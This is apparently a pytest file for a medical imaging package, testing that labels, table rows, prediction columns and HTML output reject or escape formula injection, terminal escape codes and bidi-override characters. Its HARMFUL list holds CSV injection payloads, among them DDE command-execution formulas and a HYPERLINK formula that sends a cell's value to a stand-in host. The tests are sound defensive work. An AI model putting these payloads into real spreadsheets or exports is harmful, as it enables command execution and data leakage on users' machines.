"""Names that are more than names where they go: formulas, orders to a terminal, turned text."""

import csv
import io

import pandas as pd
import pytest

from medjax.config import names
from medjax.data import table
from medjax.errors import InputError
from medjax.evaluation import predictions
from medjax.report import beside, markup

# As OWASP's page on CSV injection and its readers list them.
HARMFUL = (
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://a.example?x="&A1,"more")',
  '@SUM(1+1)*cmd|x',
  "+2+3+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
)


@pytest.mark.parametrize('text', [*HARMFUL, '+A1', '-A1', '=A1'])
def test_what_a_spreadsheet_computes_is_a_formula(text):
  assert names.is_formula(text)


@pytest.mark.parametrize(
  'text', ['', 'a=1', '-1', '+1.5', '-0,5', '-1e-3', '+++', '-', '="0071"', 'T1 < 2 cm & N0', '2+']
)
def test_numbers_signs_and_text_constants_are_no_formulas(text):
  assert not names.is_formula(text)


@pytest.mark.parametrize(
  'text', ['-0.5 D', '-Xk3s9A==', '+ve', '@eaDir/1.png', '+49 151 123', '++ (2+)', '+ (focal)']
)
def test_a_sign_before_text_does_no_harm_unless_it_reaches_out(text):
  assert not names.is_harmful_formula(text)
  names.check_name(text, 'patient', 'labels.csv')


def test_what_reaches_out_does_harm_whatever_its_sign():
  assert all(map(names.is_harmful_formula, HARMFUL))


@pytest.mark.parametrize('label', [*HARMFUL, 'a\nb', 'a\x1b[31m', 'a\u202eb', 'x' * 4096, ' '])
def test_labels_that_are_more_than_names_are_refused_in_one_printable_line(label):
  with pytest.raises(InputError) as error:
    names.check_labels([label], 'config.data.labels')
  assert str(error.value).isprintable() and len(str(error.value)) < 300


@pytest.mark.parametrize(
  'label', ['Tumeur (N+)', 'بيت', 'T1 < 2 cm & N0', 'a|b', '+', '10', '肺炎']
)
def test_labels_of_any_language_and_sign_are_taken(label):
  names.check_labels([label], 'config.data.labels')


@pytest.mark.parametrize('column', ['image', 'patient', 'reader'])
def test_images_and_people_called_like_formulas_are_refused_by_row(column):
  columns = {'image': ['a', 'b'], 'patient': ['1', '2'], 'reader': ['x', 'y'], 'Mass': [0.0, 1.0]}
  table.check(pd.DataFrame(columns), 'labels.csv')
  columns[column] = [columns[column][0], './=1+1' if column == 'image' else '=1+1']
  with pytest.raises(InputError, match=r'labels\.csv: row 3'):
    table.check(pd.DataFrame(columns), 'labels.csv')


def test_words_about_images_may_begin_with_a_sign_and_run_nothing():
  columns = {'image': ['a'], 'patient': ['1'], 'Mass': [0.0], 'about sphere': ['-0.5 D']}
  table.check(pd.DataFrame(columns), 'labels.csv')
  columns['about sphere'] = [HARMFUL[2]]
  with pytest.raises(InputError, match='about sphere'):
    table.check(pd.DataFrame(columns), 'labels.csv')


def test_predictions_of_anybody_are_refused_where_a_label_is_a_formula(tmp_path):
  (tmp_path / 'p.csv').write_text('image,patient,prob_=1+1,true_=1+1\na,1,0.5,1\n')
  with pytest.raises(InputError, match='formula'):
    predictions.read(tmp_path / 'p.csv')


def test_tables_for_people_hold_no_formula():
  text = beside._csv([{'value': '=1+1', 'n': -1.5}, {'value': '-0.5', 'n': 2}])
  rows = list(csv.DictReader(io.StringIO(text)))
  assert rows == [{'value': "'=1+1", 'n': '-1.5'}, {'value': '-0.5', 'n': '2'}]


def test_a_page_shows_what_would_turn_its_text():
  assert markup.tag('td', 'a\u202egnp.exe', title='\x1b[2J') == (
    '<td title="\\x1b[2J">a\\u202egnp.exe</td>'
  )
